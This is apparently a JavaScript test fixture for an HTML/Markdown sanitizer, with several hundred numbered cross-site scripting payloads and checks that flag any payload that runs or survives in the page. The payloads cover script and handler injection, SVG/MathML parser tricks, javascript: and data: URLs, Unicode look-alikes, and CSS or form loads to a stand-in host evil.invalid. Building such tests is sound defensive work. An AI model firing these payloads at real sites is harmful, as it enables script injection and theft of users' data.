// More than three hundred and fifty texts of somebody who wishes the reader harm, by family. Each says a number of its own when it runs
// (`alert(17)`) or loads (`//evil.invalid/17`), so that whatever happens names its cause.

const html = {
  "elements that run by themselves": [
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script\n>RUN</script\n>", "<script/x>RUN</script>", "<script src=EVIL></script>", "<script type=module>RUN</script>",
    "<script defer src='data:text/javascript,RUN'></script>", "<script>RUN", "<<script>RUN//<</script>", "<scr<script>ipt>RUN</scr</script>ipt>", "<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
    "<script language=vbscript>RUN</script>", "\u0000<script>RUN</script>", "<script\u0000>RUN</script>", "<script\t>RUN</script\t>", "<script\f>RUN</script>", "<script type='speculationrules'>{\"prefetch\":[{\"urls\":[\"https:EVIL\"]}]}</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"https:EVIL\"}}</script>", "<xss><script>RUN</script></xss>", "<br><script>RUN</script>", "--><script>RUN</script>", "]]><script>RUN</script>", "?><script>RUN</script>",
    "'\"><script>RUN</script>", "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</style><script>RUN</script>", "</script><script>RUN</script>",
  ],
  "elements with a handler": [
    "<img src=x onerror=RUN>", "<img src=x onerror='RUN'>", '<img src=x onerror="RUN">', "<img/src=x/onerror=RUN>", "<IMG SRC=x OnErRoR=RUN>", "<img src=x onerror=RUN//", "<img src=x:x onerror=RUN>",
    "<img src onerror=RUN>", "<img src=x onerror\n=\nRUN>", "<img src=x onerror\u000c=RUN>", "<img src=x onerror=&#97;lert(N)>", "<img src=x onerror='RUNENT'>", "<img src=x onerror=RUNUNI>", "<img src=x onerror=eval(atob('RUN64'))>",
    "<img src=x onerror=\"window['al'+'ert'](N)\">", "<img src=x onerror=top.alert`N`>", "<img srcset=x onerror=RUN>", "<image src=x onerror=RUN>", "<img src=/icon.svg onload=RUN>", "<img src=x onerror=import('https:EVIL')>",
    "<body onload=RUN>", "<body onpageshow=RUN>", "<body onhashchange=RUN><a href=#x>x</a>", "<frameset onload=RUN>", "<svg onload=RUN>", "<svg/onload=RUN>", "<svg\u000conload=RUN>", "<svg onload=RUN//",
    "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>", "<button autofocus onfocus=RUN>x", "<a href=# autofocus tabindex=1 onfocus=RUN>x</a>", "<xss contenteditable autofocus onfocus=RUN>",
    "<video src=x onerror=RUN>", "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN>", "<audio onloadstart=RUN src=x>", "<video autoplay onloadstart=RUN src=x>", "<video controls><track src=EVIL onerror=RUN default></video>",
    "<details open ontoggle=RUN>", "<details><summary onclick=RUN>x</summary></details>", "<marquee onstart=RUN>x</marquee>", "<iframe onload=RUN></iframe>", "<iframe src=x onload=RUN>", "<object data=x onerror=RUN></object>",
    "<embed src=x onload=RUN>", "<link rel=stylesheet href=x onerror=RUN>", "<style onload=RUN></style>", "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=RUN>x", "<p style='transition:color 1s' ontransitionend=RUN>x",
    "<p onmouseover=RUN style='position:fixed;inset:0'>x", "<p onpointerenter=RUN>x</p>", "<p onwheel=RUN onscroll=RUN onclick=RUN onkeydown=RUN>x</p>", "<p popover onbeforetoggle=RUN>x</p>", "<dialog open onclose=RUN><form method=dialog><button>x</dialog>",
    "<xss id=x tabindex=1 onfocusin=RUN>x</xss>", "<xss onscrollend=RUN style='overflow:scroll'>x</xss>", "<p onContentVisibilityAutoStateChange=RUN style='content-visibility:auto'>x", "<table background=x onload=RUN>", "<meter onmouseover=RUN>0</meter>",
  ],
  "SVG and MathML": [
    "<svg><script>RUN</script></svg>", "<svg><script href=EVIL /></svg>", "<svg><script xlink:href='data:,RUN' /></svg>", "<svg><script>&#97;lert(N)</script></svg>", "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:RUN' /><text y=20>x</text></a></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributeName=x to=1>", "<svg><animateTransform onbegin=RUN attributeName=transform>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x'>", "<svg><foreignObject><iframe onload=RUN></foreignObject></svg>", "<svg><foreignObject><script>RUN</script></foreignObject></svg>",
    "<svg><image href=x onerror=RUN /></svg>", "<svg><image href='https:EVIL' /></svg>", "<svg><style><img src=x onerror=RUN></style></svg>", "<svg><title><img src=x onerror=RUN></title></svg>", "<svg><desc><script>RUN</script></desc></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'>", "<svg><p><style><!--</style><img src=x onerror=RUN>-->", "<math href='javascript:RUN'>x</math>", "<math><mi xlink:href='javascript:RUN'>x</mi></math>", "<math><maction actiontype=statusline xlink:href='javascript:RUN'>x</maction></math>",
    "<math><mtext><script>RUN</script></mtext></math>", "<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=RUN>'>",
    "<math><mi//xlink:href='data:x,<script>RUN</script>'>", "<svg xmlns:x='javascript:RUN'><x:script>RUN</x:script></svg>", "<?xml version=1.0?><svg onload=RUN xmlns='http://www.w3.org/2000/svg'/>", "<svg><filter><feImage href='https:EVIL' /></filter></svg>",
  ],
  "what becomes another thing when it is read twice": [
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<template><img src=x onerror=RUN></template>", "<template shadowrootmode=open><img src=x onerror=RUN></template>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<a title='--><img src=x onerror=RUN>'>", "<!--><img src=x onerror=RUN>-->", "<!---><img src=x onerror=RUN>-->", "<!--<!--><img src=x onerror=RUN>-->", "<!--x--!><img src=x onerror=RUN>-->", "<![CDATA[><img src=x onerror=RUN>]]>", "<![if !x]><img src=x onerror=RUN><![endif]>",
    "<!doctype x [<!entity x '<img src=x onerror=RUN>'>]>&x;", "<? x><img src=x onerror=RUN>?>", "<% <img src=x onerror=RUN> %>", "<listing>&lt;img src=x onerror=RUN&gt;</listing>", "<xmp><img title='</xmp><img src=x onerror=RUN>'></xmp>", "<plaintext><img src=x onerror=RUN>",
    "<noembed><img title='</noembed><img src=x onerror=RUN>'></noembed>", "<noframes><img title='</noframes><img src=x onerror=RUN>'></noframes>", "<iframe><img title='</iframe><img src=x onerror=RUN>'></iframe>", "<title><img title='</title><img src=x onerror=RUN>'></title>",
    "<textarea><img title='</textarea><img src=x onerror=RUN>'></textarea>", "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=RUN>'>", "<table><tr><td><form><input name=x></table><img src=x onerror=RUN>", "<p id='\n\n<img src=x onerror=RUN>'>",
    "&lt;img src=x onerror=RUN&gt;", "&amp;lt;img src=x onerror=RUN&amp;gt;", "&#60;img src=x onerror=RUN&#62;", "&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;", "%3Cscript%3ERUN%3C/script%3E", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
  ],
  "pages in pages, and pages elsewhere": [
    "<iframe srcdoc='<script>RUN</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;RUN&lt;/script&gt;'></iframe>", "<iframe srcdoc=\"<img src=x onerror=parent.RUN>\">", "<iframe src='javascript:RUN'></iframe>", "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "<iframe src=https:EVIL></iframe>", "<object data='javascript:RUN'></object>", "<object data='data:text/html;base64,RUN64SCRIPT'></object>", "<embed src='javascript:RUN'>", "<embed src='data:text/html;base64,RUN64SCRIPT'>", "<applet code=x archive=EVIL></applet>",
    "<frameset><frame src='javascript:RUN'></frameset>", "<portal src=https:EVIL></portal>", "<fencedframe src=https:EVIL></fencedframe>", "<base href='https:EVIL/'>", "<base href='javascript:RUN//'><a href=x>x</a>", "<base target='x\n<'>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;https:EVIL'>", "<meta http-equiv=content-security-policy content=\"script-src *\">", "<meta name=referrer content=unsafe-url>", "<link rel=import href='data:text/html,<script>RUN</script>'>", "<link rel=prefetch href=https:EVIL>", "<link rel='dns-prefetch preconnect' href=https:EVIL>",
    "<link rel=stylesheet href=https:EVIL>", "<link rel=manifest href=https:EVIL>", "<form action='javascript:RUN'><button>x</button></form>", "<form action=https:EVIL><input name=password><button>x</form>", "<button form=x formaction='javascript:RUN'>x</button>", "<isindex action='javascript:RUN' type=image>",
    "<input type=image src=https:EVIL formaction='javascript:RUN'>", "<a href='https:EVIL' ping='https:EVIL'>x</a>", "<a href=x attributionsrc=https:EVIL>x</a>", "<video poster=https:EVIL></video>", "<img src=https:EVIL>", "<img srcset='https:EVIL 1x'>", "<picture><source srcset=https:EVIL><img></picture>", "<body background=https:EVIL>",
  ],
  "styles": [
    "<p style='background:url(https:EVIL)'>x</p>", "<p style=\"background:url('javascript:RUN')\">x</p>", "<p style='width:expression(RUN)'>x</p>", "<p style='behavior:url(EVIL)'>x</p>", "<p style='-moz-binding:url(EVIL#x)'>x</p>", "<style>@import 'https:EVIL';</style>", "<style>*{background:url(https:EVIL)}</style>",
    "<style>input[value^=a]{background:url(https:EVIL)}</style>", "<style>@font-face{font-family:x;src:url(https:EVIL)}*{font-family:x}</style>", "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>", "<p style='x:\\75\\72\\6c(https:EVIL)'>x</p>", "<p style=\"content:'\\3c img src=x onerror=RUN\\3e '\">x</p>",
    "<style>body{display:none}</style>",
  ],
  "names that hide ours": [
    "<img name=body>", "<form id=document><input name=cookie></form>", "<a id=location href='javascript:RUN'>x</a>", "<img name=getElementById>", "<form name=forms><input name=parentNode><input name=attributes><input name=nodeName></form>", "<a id=Promise><a id=Promise name=resolve href='x'>", "<div id=app>x</div>", "<div id=content><img src=x onerror=RUN></div>",
    "<form id=__proto__><input name=constructor></form>", "<img name=currentScript src='https:EVIL'>", "<input id=comment-body name=comment-body>", "<svg hidden><symbol id=icon-pen><image href=x onerror=RUN /></symbol></svg>",
  ],
  "letters that are not what they seem": [
    "＜script＞RUN＜/script＞", "‹script›RUN‹/script›", "<ſcript>RUN</ſcript>", "<ſvg onload=RUN>", "<ımg src=x onerror=RUN>", "\u202e<script>RUN</script>", "<scr\u200bipt>RUN</scr\u200bipt>", "<\u00adscript>RUN</script>", "<img\u00a0src=x\u00a0onerror=RUN>", "<img\u2028src=x\u2028onerror=RUN>", "\ufeff<script>RUN</script>",
    "\ud83d\ude00<img src=x onerror=RUN>\ud83d\ude00", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "\u001b(J<script>RUN</script>", "<a href=\"jаvascript:RUN\">x</a>", "ＳＣＲＩＰＴ<ＳＣＲＩＰＴ>RUN", "z̷̢͉<img src=x onerror=RUN>\u0301\u0301\u0301",
  ],
  "long and deep": [
    `${"<b>".repeat(200)}<img src=x onerror=RUN>`, `${"<div><span>".repeat(120)}<script>RUN</script>`, `<img src=${"x".repeat(1500)} onerror=RUN>`, `<a ${"x=y ".repeat(300)}onmouseover=RUN>x</a>`, `${"<!--".repeat(200)}--><img src=x onerror=RUN>`, `${"<svg>".repeat(150)}<script>RUN</script>`, `<p title="${"\\\"".repeat(400)}" onclick=RUN>x</p>`,
  ],
  "words for programs that fill in words": [
    "{{constructor.constructor('RUN')()}}", "${RUN}", "<%= RUN %>", "#{RUN}", "{{{'</script><script>RUN'}}}", "[[RUN]]", "'-RUN-'", "\"-RUN-\"", "';RUN;//", "\";RUN;//", "`;RUN;//", "</script><svg onload=RUN>", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+RUN//'>",
  ],
};

// What a link may not lead to. Each is put into every form below.
const addresses = [
  "javascript:RUN", "JAVASCRIPT:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\u0001javascript:RUN", "\u001fjavascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "java\rscript:RUN", "javascript\t:RUN", "javascript\n:RUN", "javascript&colon;RUN", "javascript&#58;RUN", "javascript&#x3a;RUN",
  "&#106;avascript:RUN", "&#x6a;avascript:RUN", "&#0000106avascript:RUN", "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:RUN", "jav&#x09;ascript:RUN", "jav&Tab;ascript:RUN", "jav&NewLine;ascript:RUN", "java\\script:RUN", "\\javascript:RUN", "javascript%3aRUN", "%6aavascript:RUN", "javascript://x%0aRUN", "javascript:/*x*/RUN", "javascript:\"<script>RUN</script>\"",
  "javascript:import('https:EVIL')", "view-source:javascript:RUN", "feed:javascript:RUN", "blob:javascript:RUN", "jar:javascript:RUN", "data:text/html,<script>RUN</script>", "data:text/html;base64,RUN64SCRIPT", "DATA:text/html,RUNPCT", "data:image/svg+xml,<svg onload=RUN xmlns='http://www.w3.org/2000/svg'/>", "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>", "data:;base64,RUN64SCRIPT", "data:text/html&comma;<script>RUN</script>",
  "vbscript:RUN", "VBScript:RUN", "livescript:RUN", "mocha:RUN", "file:///etc/passwd#N", "filesystem:https:EVIL", "about:blank#N", "chrome://settings#N", "intent:EVIL#Intent;scheme=javascript;end", "ms-word:ofe|u|https:EVIL", "//evil.invalid/N", "\\\\evil.invalid\\N", "/\\evil.invalid/N", "/\t/evil.invalid/N", "http:evil.invalid/N", "https:\\\\evil.invalid\\N",
];

// Where Markdown could let somebody out of an attribute or into a tag.
const markdown = [
  '[x](https://a.invalid "\\" onmouseover=RUN x=\\"")', "[x](https://a.invalid 'x\" onmouseover=\"RUN')", '[x](<https://a.invalid" onmouseover="RUN>)', "[x](https://a.invalid\"onmouseover=\"RUN)", "[x\" onmouseover=\"RUN](https://a.invalid)", "[<img src=x onerror=RUN>](https://a.invalid)", '![x" onerror="RUN](x)', '![x](x "\\" onerror=\\"RUN")',
  "![<script>RUN</script>](images/x)", "![x](images/x\"onerror=\"RUN)", "![x](https:EVIL)", "![x](//evil.invalid/N)", "![![x](https:EVIL)](https:EVIL)", "[![x](javascript:RUN)](javascript:RUN)", "[x](<javascript:RUN>)", "[x](\njavascript:RUN\n)", "[x](javascript:RUN \"titre\")", "[a]: javascript:RUN\n\n[a]", "[b]: <javascript:RUN>\n\n[b][]", "[c]:\njavascript:RUN\n\n[x][c]",
  "[d]: https://a.invalid '\" onmouseover=RUN'\n\n[d]", "<javascript:RUN>", "<JAVASCRIPT:RUN>", "<data:text/html,RUN>", "<https://a.invalid/\"onmouseover=\"RUN>", "<a@b.invalid\"onmouseover=RUN>", "<mailto:a@b.invalid?body=\"onmouseover=RUN>", "https://a.invalid/\"onmouseover=\"RUN", "www.a.invalid/<script>RUN</script>", "`<script>RUN</script>`", "``` \"onmouseover=RUN\n<script>RUN</script>\n```", "```x\"><script>RUN</script>\nx\n```", "~~~ <img src=x onerror=RUN>\nx\n~~~",
  "    <script>RUN</script>", "# <img src=x onerror=RUN>", "<img src=x onerror=RUN>\n===", "> <script>RUN</script>", "- <script>RUN</script>", "1. <svg onload=RUN>", "- [ ] <img src=x onerror=RUN>", "- [<img src=x onerror=RUN>] x", "| <img src=x onerror=RUN> |\n| --- |\n| <script>RUN</script> |", "| [x](javascript:RUN) |\n| :---: |\n| `<svg onload=RUN>` |", "x[^<script>RUN</script>]\n\n[^<script>RUN</script>]: y", "x[^N]\n\n[^N]: <img src=x onerror=RUN>", "x[^N\"]\n\n[^N\"]: [y](javascript:RUN)",
  "x[^\"><svg/onload=RUN>]\n\n[^\"><svg/onload=RUN>]: y", "**<b onclick=RUN>**", "*[x*](javascript:RUN)", "~~<s onclick=RUN>~~", "\\<script>RUN\\</script>", "\\[x](javascript:RUN)", "[x]\\(javascript:RUN)", "&lt;script&gt;RUN&lt;/script&gt;", "[x](&#x6A;avascript&#58;RUN)", "***\n<script>RUN</script>\n***", "<details>\n\n<script>RUN</script>\n\n</details>", "<div\n\n[x](javascript:RUN)\n\nonclick=RUN>",
  `${"[".repeat(120)}x${"](javascript:RUN)".repeat(120)}`, `${"> ".repeat(60)}<script>RUN</script>`, `${"*".repeat(300)}<script>RUN</script>${"*".repeat(300)}`, `[x](${"(".repeat(30)}javascript:RUN${")".repeat(30)})`,
];

const entities = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join("");
const base64 = (text) => Buffer.from(text).toString("base64");

/** The payload with its number in it. */
function numbered(text, n) {
  const run = `alert(${n})`, script = `<script>${run}</script>`;
  return text.replaceAll("RUN64SCRIPT", base64(script)).replaceAll("RUN64", base64(run)).replaceAll("RUNENT", entities(run)).replaceAll("RUNPCT", encodeURIComponent(script))
    .replaceAll("RUNUNI", `\\u0061lert(${n})`).replaceAll("RUN", run).replaceAll("EVIL", `//evil.invalid/${n}`).replace(/\bN\b/g, n);
}

/** All of them: {n, text, kind: "html" | "address" | "markdown"}. */
export const payloads = [...Object.values(html).flat().map((text) => ["html", text]), ...addresses.map((text) => ["address", text]), ...markdown.map((text) => ["markdown", text])]
  .map(([kind, text], n) => ({ n, kind, text: numbered(text, n) }));

/** Its number, in a form that survives every place where words are shown. */
export const label = ({ n }) => `n${n}n`;

const forms = {
  html: (x) => [x, `Un mot ${x} et un mot.`, `| ${x.replaceAll("\n", " ")} |\n| --- |\n| \`${x.replaceAll("\n", " ")}\` |`, `[${x}](https://a.invalid)`, `![${x}](images/x "${x.replaceAll('"', '\\"')}")`],
  address: (x) => [`[x](${x})`, `[x](<${x}>)`, `<${x}>`, `![x](${x})`, `[x]: ${x}\n\n[x]`, `<a href="${x}">x</a>`, `[^x]\n\n[^x]: [x](${x})`],
  markdown: (x) => [x],
};
const CLOSED = "***\n\n--> ]]> ?> </script></style></textarea></title></xmp></noscript></template></select></svg></math>\n\n***";

/** One Markdown text with all of these in every form of theirs, each begun afresh and named. */
export const asText = (list) => list.map((one) => [`${label(one)} :`, ...forms[one.kind](one.text), CLOSED].join("\n\n")).join("\n\n");

/** For names, titles, remarks: lines of at most so many characters, each holding as many payloads as fit. Longer ones are left out. */
export function asLines(most, list = payloads) {
  const lines = [];
  for (const one of list) {
    const text = `${label(one)} ${one.text.replace(/[\u0000-\u001f\u007f]+/g, " ")}`, last = lines.at(-1);
    if ([...text].length > most) continue;
    if (last !== undefined && [...last].length + [...text].length < most) lines[lines.length - 1] = `${last} ${text}`;
    else lines.push(text);
  }
  return lines;
}

/** As HTML on a clipboard. */
export const asHtml = (one) => `${one.kind === "html" ? one.text : one.kind === "address" ? `<a href="${one.text}">x</a><img src="${one.text}">` : `<p>${one.text}</p>`}<p>${label(one)}</p>`;

/** Runs in every frame before the page's own code: what would run or break the policy is said in the console as an error. */
export function watch() {
  for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = (what) => console.error(`it ran: ${name}(${what})`);
  addEventListener("securitypolicyviolation", (e) => console.error(`against the policy: ${e.effectiveDirective} ${e.blockedURI} ${e.sample}`), true);
}

/** What is in the page now that should not be, as readable lines. */
export function wrongInPage() {
  const faults = [], say = (what, e) => faults.push(`${what}: ${e.outerHTML.slice(0, 200)}`);
  const addressed = new Set(["href", "src", "srcset", "action", "formaction", "data", "poster", "background", "ping", "codebase", "cite", "longdesc", "manifest", "archive", "xlink:href"]);
  const walk = (root) => {
    for (const e of root.querySelectorAll("*")) {
      const name = e.localName;
      if (/^(iframe|frame|frameset|object|embed|applet|base|portal|fencedframe|math|foreignobject|animate|set|animatetransform|video|audio|marquee|plaintext|xmp)$/i.test(name)) say("a foreign element", e);
      if (name === "script" && !(e.src && new URL(e.src).origin === location.origin && e.textContent === "")) say("a script", e);
      if (name === "meta" && e.httpEquiv) say("an order to the browser", e);
      for (const { name: attribute, value } of e.attributes) {
        if (/^on/i.test(attribute) || attribute === "srcdoc") say("a handler", e);
        if (attribute === "style" && /url\(|expression|@import/i.test(value)) say("a style that loads", e);
        if (!addressed.has(attribute) || value === "") continue;
        const scheme = URL.canParse(value, location.href) ? new URL(value, location.href) : null;
        const goes = name === "a" && attribute === "href";
        if (!scheme || !["http:", "https:", ...(goes ? ["mailto:"] : []), ...(name === "img" ? ["blob:"] : [])].includes(scheme.protocol)) say("a forbidden address", e);
        else if (!goes && scheme.origin !== location.origin && scheme.protocol !== "blob:") say("something from elsewhere", e);
      }
      if (e instanceof HTMLTemplateElement) walk(e.content);
      if (e.shadowRoot) walk(e.shadowRoot);
    }
  };
  walk(document);
  if (!(document.body instanceof HTMLElement && document.body.localName === "body") || !(document.forms instanceof HTMLCollection) || typeof document.getElementById !== "function" || typeof document.cookie !== "string" || window.location.origin === undefined)
    faults.push("a name of the document's own is hidden");
  return faults;
}

/** The numbers whose words are on the page. */
export const shownInPage = () => {
  const words = [document.body.innerText, ...[...document.querySelectorAll("input, textarea")].map((field) => field.value), ...[...document.querySelectorAll("option")].map((one) => one.textContent)].join(" ");
  return [...new Set([...words.matchAll(/\bn(\d+)n\b/g)].map((found) => Number(found[1])))];
};
